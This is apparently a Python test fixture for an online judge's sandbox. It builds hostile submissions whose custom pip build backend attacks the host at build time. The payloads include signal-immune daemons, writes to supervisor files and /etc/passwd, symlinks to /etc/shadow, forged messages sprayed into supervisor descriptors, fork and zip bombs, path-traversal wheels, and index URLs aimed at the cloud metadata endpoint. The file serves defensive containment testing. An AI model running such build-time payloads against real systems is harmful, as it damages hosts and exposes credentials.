"""Submissions of several files that attack through their build: what they bring, and what must come out.

Each program prints ``contained`` once it has looked for what its build should not have been able to do.
"""

import base64
from collections.abc import Mapping
from dataclasses import dataclass

from tests.hostile.wheels import wheel, zeros

CONTAINED = b"print('contained')\n"
LOOK = b"""
import os
found = []
for place in ('/box/tmp', '/box/data', '/dev/shm', '/dev/mqueue'):
    if os.path.isdir(place):
        found += [f'{place}/{name}' for name in os.listdir(place)]
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        if int(pid) != os.getpid() and os.stat(f'/proc/{pid}').st_uid == os.getuid():
            found.append(f'process {pid}')
    except OSError:
        pass
try:
    for kind in ('msg', 'sem', 'shm'):
        with open(f'/proc/sysvipc/{kind}') as objects:
            found += objects.readlines()[1:]
except OSError:
    pass
for path in ('main.py', 'planted/__init__.py', '.'):
    if os.path.exists(path) and os.access(path, os.W_OK) and path != '.':
        found.append(f'{path} can be changed')
print(found or 'contained')
"""
PROJECT = b"""
[project]
name = "planted"
version = "1"
[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
"""
BACKEND = """
import base64, io, os, sys
def attack():
{attack}
def build_wheel(folder, *_, **__):
    try: attack()
    except Exception as error: print(repr(error), file=sys.stderr)
    name = 'planted-1-py3-none-any.whl'
    with open(os.path.join(folder, name), 'wb') as file:
        file.write(base64.b64decode({wheel!r}))
    return name
"""
"""Pip asks it for a wheel, so it runs whatever it likes while the submission is built."""


def backend(attack: str) -> dict[str, bytes]:
    """A submission whose build runs ``attack``."""
    (made,) = wheel("planted", {"planted/__init__.py": b""}).values()
    lines = "\n".join(f"    {line}" for line in attack.strip().splitlines())
    return {
        "wheels/README": b"",
        "requirements.txt": b"./project\n",
        "project/pyproject.toml": PROJECT,
        "project/backend.py": BACKEND.format(attack=lines, wheel=base64.b64encode(made).decode()).encode(),
        "main.py": LOOK,
    }


@dataclass(frozen=True)
class Build:
    """``log`` must be in the build's log, and ``secret`` must not be in it.

    ``may_break``: under gVisor it may reach the wall of its box before the supervisor has counted it (docs/hostile.md).
    """

    files: Mapping[str, bytes]
    must: frozenset[tuple[str, str]] = frozenset({("accepted", "")})
    runtime: str = "python"
    log: str = ""
    secret: str = "root:"
    may_break: bool = False


def failed(*causes: str) -> frozenset[tuple[str, str]]:
    return frozenset(("compile_error", cause) for cause in causes or ("build_failed",))


DAEMON = """
import signal, time
for number in range(1, 65):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 100)
        while True: time.sleep(0.05)
    os._exit(0)
"""
LEAVINGS = """
import ctypes
for place in ('/box/tmp', '/box/data', '/dev/shm', '/dev/mqueue'):
    try:
        os.makedirs(f'{place}/a/b', exist_ok=True)
        open(f'{place}/note', 'w').write('x')
        os.mkfifo(f'{place}/fifo')
        os.chmod(f'{place}/a', 0)
    except OSError: pass
library = ctypes.CDLL(None)
library.shmget(77, 4096, 0o1666); library.msgget(77, 0o1666); library.semget(77, 1, 0o1666)
"""
REWRITE = """
top = os.environ.get('PWD', '/box/work')
for path in ('main.py', 'project/backend.py'):
    os.chmod(f'/box/work/{path}', 0o777)
os.rename('/box/work/main.py', '/box/work/old.py')
os.symlink('/proc/self/fd/0', '/box/work/main.py')
"""
OURS = """
for path in ('/opt/judge/supervisor/main.py', '/usr/local/lib/judge/launch', '/usr/bin/python3', '/etc/passwd'):
    try: open(path, 'a').write('x')
    except OSError: continue
    open('/box/work/wrote', 'w').write(path)
"""
DEVICES = """
os.mkfifo('/box/work/fifo')
os.symlink('/etc/shadow', '/box/work/link')
os.symlink('/box/work', '/box/work/loop')
import socket
socket.socket(socket.AF_UNIX).bind('/box/work/socket')
for number in range(2000): os.link('/box/work/project/backend.py', f'/box/work/hard{number}')
"""
SPRAY = """
for descriptor in range(3, 256):
    try: os.write(descriptor, b'\\x00\\x00\\x00\\x40{"op":"result","exit_code":0,"signal":-1}')
    except OSError: pass
"""
PYTHON = {
    "a backend of its own leaves a daemon": Build(backend(DAEMON)),
    "a backend of its own leaves files, queues and shared memory": Build(backend(LEAVINGS)),
    "a backend of its own makes the main file a link to standard input": Build(
        backend(REWRITE), frozenset({("runtime_error", "nonzero_exit"), ("compile_error", "build_failed")})
    ),
    "a backend of its own writes to the judge's files": Build(
        {
            **backend(OURS),
            "main.py": b"import os\nprint(open('wrote').read() if os.path.exists('wrote') else 'contained')\n",
        }
    ),
    "a backend of its own leaves links, pipes and sockets": Build(backend(DEVICES)),
    "a backend of its own writes to the supervisor's descriptors": Build(backend(SPRAY)),
    "a backend of its own fills the disk": Build(
        backend("with open('/box/work/big', 'wb') as file:\n    while True: file.write(bytes(1 << 20))"),
        failed("disk_full", "build_failed"),
    ),
    "a backend of its own fills the memory": Build(
        backend("block = []\nwhile True: block.append(bytearray(1 << 26))"), failed("out_of_memory")
    ),
    "a backend of its own forks without end": Build(
        backend("while True:\n    try: os.fork()\n    except OSError: pass"),
        failed("too_many_processes", "out_of_memory", "cpu_time", "wall_time", "build_failed"),
        may_break=True,
    ),
    "a backend of its own prints without end": Build(
        backend('for _ in range(200000): print(\'{"verdict": "accepted"} \\x1b[2J\', file=sys.stderr)\nsys.exit(1)'),
        failed("build_failed", "out_of_memory"),
    ),
    "a backend of its own prints what is no text": Build(
        backend("os.write(2, bytes(range(256)) * 10)\nsys.exit(1)"), failed()
    ),
    "a wheel that is a bomb": Build(
        {
            **wheel("bomb", {}, zeros("bomb/zeros", 300)),
            "requirements.txt": b"bomb\n",
            "main.py": CONTAINED,
        },
        failed("disk_full", "build_failed"),
    ),
    "a million signs before a number": Build({"main.py": b"print(" + b"-" * 1_000_000 + b"1)\n"}, failed()),
    "a wheel that leads elsewhere": Build(
        {
            **wheel("up", {"../../../../box/data/up.py": b"x", "up/__init__.py": b""}),
            "requirements.txt": b"up\n",
            "main.py": CONTAINED,
        },
        failed(),
    ),
    "a wheel that takes the main file's place": Build(
        {
            **wheel("taker", {"main.py": b"print('taken')\n"}),
            "requirements.txt": b"taker\n",
            "main.py": CONTAINED,
        },
    ),
    "requirements that read a file of the machine": Build(
        {"wheels/x": b"", "requirements.txt": b"-r /etc/shadow\n-r /proc/1/environ\n", "main.py": CONTAINED}, failed()
    ),
    "requirements that never end": Build(
        {"wheels/x": b"", "requirements.txt": b"-r /dev/zero\n", "main.py": CONTAINED},
        failed("out_of_memory", "build_failed", "cpu_time"),
    ),
    "requirements that include themselves": Build(
        {"wheels/x": b"", "requirements.txt": b"-r requirements.txt\n", "main.py": CONTAINED},
        failed("build_failed", "cpu_time"),
    ),
    "requirements from elsewhere": Build(
        {
            "wheels/x": b"",
            "requirements.txt": b"--index-url http://169.254.169.254/\n--extra-index-url http://127.0.0.1:6379/\nevil\n",
            "main.py": CONTAINED,
        },
        failed(),
    ),
    "a source of a megabyte in an encoding that takes quadratic time": Build(
        {"main.py": b"# coding: punycode\n" + b"a-" * 300_000 + b"9" * 200_000}, failed("build_failed", "cpu_time")
    ),
}
